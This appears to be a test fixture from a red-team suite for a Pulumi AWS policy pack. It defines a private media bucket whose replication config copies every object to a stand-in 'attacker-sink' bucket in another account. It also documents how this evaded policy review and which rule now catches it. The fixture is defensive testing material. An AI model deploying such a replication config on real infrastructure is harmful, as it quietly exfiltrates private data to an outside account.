"""Exfiltration (class 4 adjacent): a `BucketReplicationConfig` on the declared private bucket replicates every
object to `arn:aws:s3:::attacker-sink` in account 999999999999 (owner override to the destination), using an
existing replication role named by a literal ARN.

Why it is dangerous: all private media, present and future, is copied to a bucket another account owns.
Why it passed (before the fix, red-team review): no policy reads `BucketReplicationConfig` (nor the inline `Bucket.replicationConfiguration`):
it is not in `CONFIGURATION_TYPES`, its destination bucket/account is never compared with the program's own
buckets/accounts, and the role is not created by the program so no document is judged. (The pack does list
`s3:PutReplicationConfiguration` as a bucket-control action for IAM documents, so replication is considered
dangerous, but the resource that does it is not judged.)

Caught by: `s3-replication-stays-in-program`, mandatory, also in a first preview (the destination's bucket and account are literal).
"""

import pulumi_aws as aws
from _baseline import ACCOUNT, app_role, secure_bucket


def program() -> None:
    aws.Provider("main", allowed_account_ids=[ACCOUNT], region="us-east-1")
    bucket = secure_bucket("media")
    app_role()
    aws.s3.BucketReplicationConfig(
        "media-replication",
        bucket=bucket.id,
        role=f"arn:aws:iam::{ACCOUNT}:role/existing-replication",
        rules=[
            {
                "id": "all",
                "status": "Enabled",
                "filter": {},
                "delete_marker_replication": {"status": "Disabled"},
                "destination": {
                    "bucket": "arn:aws:s3:::attacker-sink",
                    "account": "999999999999",
                    "access_control_translation": {"owner": "Destination"},
                },
            }
        ],
    )
